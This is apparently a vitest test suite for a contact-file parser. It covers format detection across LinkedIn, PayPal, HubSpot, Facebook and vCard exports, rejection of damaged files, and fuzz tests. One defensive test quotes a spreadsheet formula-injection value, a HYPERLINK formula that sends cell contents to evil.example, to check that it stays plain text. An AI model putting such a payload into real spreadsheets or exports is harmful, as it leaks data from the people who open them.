import fc from 'fast-check';
import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { parseFile } from './parse.ts';
import type { ParsedFile } from './types.ts';

const read = (text: string): Promise<ParsedFile> => parseFile(new TextEncoder().encode(text), 'file');
const fixture = (name: string): Promise<ParsedFile> =>
  parseFile(new Uint8Array(readFileSync(new URL(`fixtures/${name}`, import.meta.url))), name);
const people = (parsed: ParsedFile): unknown[] => parsed.contacts.map((c) => [c.names[0], c.emails[0] ?? null, c.implies]);

describe('files are known by their content', () => {
  it.each([
    [
      'Hinweise:\n"x, y"\n\nVorname,Nachname,URL,E-Mail-Adresse,Unternehmen,Position,Verbunden am\nTessa,Brandvold,https://www.linkedin.com/in/tessa-b,,Nordlys,Chefin,08. Feb. 2026\n',
      'linkedin_connections',
      '2026-02-08',
    ],
    [
      'Prénom;Nom;URL;Adresse e-mail;Entreprise;Poste;Connexion le\nTessa;Brandvold;https://www.linkedin.com/in/tessa-b;;Nordlys;Gérante;08 févr. 2026\n',
      'linkedin_connections',
      '2026-02-08',
    ],
    [
      'Connected On,Company,Last Name,First Name,URL\n"Feb 8, 2026",Nordlys,Brandvold,Tessa,https://www.linkedin.com/in/tessa-b\n',
      'linkedin_connections',
      '2026-02-08',
    ],
    ['Name|Email|Phone\nTessa Brandvold|t@b.example|+47 22 00 00 00\n', 'generic_csv', null],
    ['[{"name":"Tessa Brandvold","email":"t@b.example"}]', 'generic_json', null],
    ['begin:vcard\nfn:Tessa Brandvold\ntel:+4722000000\nend:vcard\n', 'vcard', null],
  ])('in any language, order and delimiter (%#)', async (text, format, connectedOn) => {
    const parsed = await read(text);
    expect(parsed).toMatchObject({ format, outcome: 'ok' });
    expect(parsed.contacts[0]).toMatchObject({ names: ['Tessa Brandvold'], connectedOn });
  });

  it.each([
    ['', 'empty'],
    ['  \n', 'empty'],
    ['<!doctype html><p>', 'web-page'],
    ['{"friends_v2": [ {"name": ', 'json-damaged'],
    ['{"a":1}', 'not-contacts'],
    ['Dear all,\nthis is a letter, with commas.\nBest,\nme\n', 'not-a-list'],
    ['%PDF-1.7 x', 'pdf'],
    ['PK\u0003\u0004broken', 'zip-damaged'],
  ])('and refused with a reason (%#)', async (text, problem) =>
    expect(await read(text)).toMatchObject({ outcome: 'reject', problem, contacts: [] }),
  );

  it('asks about columns that nobody can know, with a guess, and takes the answer', async () => {
    const text = 'Tessa Brandvold,t@b.example,Bergen\nOwen Tull,o@t.example,Hull\n';
    const asked = await read(text);
    expect(asked).toMatchObject({
      outcome: 'mapping',
      contacts: [],
      mapping: { guess: { headerRow: -1, fields: ['full', 'email', null] } },
    });
    const answered = await parseFile(new TextEncoder().encode(text), 'file', {
      headerRow: -1,
      fields: ['full', 'email', 'company'],
    });
    expect(answered.contacts.map((c) => [c.names[0], c.company])).toEqual([
      ['Tessa Brandvold', 'Bergen'],
      ['Owen Tull', 'Hull'],
    ]);
  });
});

describe('what a source implies', () => {
  it('R02 a buyer is a client, who is paid is a vendor, a lead a prospect', async () => {
    expect(people(await fixture('paypal_activity.csv'))).toEqual([
      ['Nora Castellano', 'nora.c@example.com', 'client'],
      ['Papierhaus Süd GmbH', 'rechnung@papierhaus-sued.example', 'vendor'],
    ]);
    expect((await fixture('hubspot_contacts.csv')).contacts.map((c) => c.implies)).toEqual(['client', 'prospect', 'vendor']);
    expect((await fixture('facebook_your_friends.json')).contacts.every((c) => c.implies === 'friend')).toBe(true);
  });

  it('people who asked to be friends are no friends', async () => {
    const parsed = await read('{"received_requests_v2":[{"name":"Tessa Brandvold","timestamp":1700000000}]}');
    expect(parsed.contacts).toMatchObject([{ implies: null }]);
  });

  it('the owner of an export is never a contact', async () => {
    const names = (await fixture('linkedin_messages.csv')).contacts.map((c) => c.names[0]);
    expect(names).not.toContain('Willa Crane');
    expect(names).not.toContain('LinkedIn Member');
  });
});

describe('damaged files', () => {
  it('a quote that is never closed costs its own row only', async () => {
    const parsed = await read(
      'Name,Email,Company\nA One,a@one.example,"Broken co\nB Two,b@two.example,Fine\nC Three,c@three.example,"Quoted, co"\n',
    );
    expect(parsed).toMatchObject({ outcome: 'partial', skipped: [{ line: 2, why: 'bad-quote' }] });
    expect(people(parsed)).toEqual([
      ['B Two', 'b@two.example', null],
      ['C Three', 'c@three.example', null],
    ]);
  });

  it('a formula is text', async () => {
    const parsed = await fixture('nasty_formula_injection.csv');
    expect(parsed.contacts[0]?.names[0]).toBe('=HYPERLINK("http://evil.example/?x="&A1,"Click")');
  });

  it('no bytes at all make it fail', async () => {
    await fc.assert(
      fc.asyncProperty(fc.uint8Array({ maxLength: 400 }), async (bytes) => {
        const parsed = await parseFile(bytes, 'x');
        expect(['ok', 'ok_empty', 'partial', 'reject', 'mapping']).toContain(parsed.outcome);
      }),
      { numRuns: 200 },
    );
  });

  it('nor does any table, card or JSON', async () => {
    const cell = fc.oneof(
      fc.constantFrom(
        'Name',
        'Email',
        'First Name',
        'Connected On',
        'BEGIN:VCARD',
        'END:VCARD',
        'N:',
        'TEL;CELL:',
        '"',
        '{"friends":[',
        '}',
        'sep=;',
      ),
      fc.string({ maxLength: 12 }),
    );
    const text = fc
      .array(fc.tuple(fc.array(cell, { maxLength: 5 }), fc.constantFrom(',', ';', '\t', ':')), {
        maxLength: 12,
      })
      .map((rows) => rows.map(([cells, by]) => cells.join(by)).join('\n'));
    await fc.assert(
      fc.asyncProperty(text, async (s) => {
        expect((await read(s)).contacts.every((c) => c.names.length > 0)).toBe(true);
      }),
      { numRuns: 200 },
    );
  });

  it('a broken archive is refused, whatever byte is wrong', async () => {
    const whole = new Uint8Array(readFileSync(new URL('fixtures/Basic_LinkedInDataExport_02-10-2026.zip', import.meta.url)));
    await fc.assert(
      fc.asyncProperty(fc.nat(whole.length - 1), fc.nat(255), async (at, byte) => {
        const damaged = whole.slice();
        damaged[at] = byte;
        expect(await parseFile(damaged, 'x')).toHaveProperty('outcome');
      }),
      { numRuns: 60 },
    );
  });
});
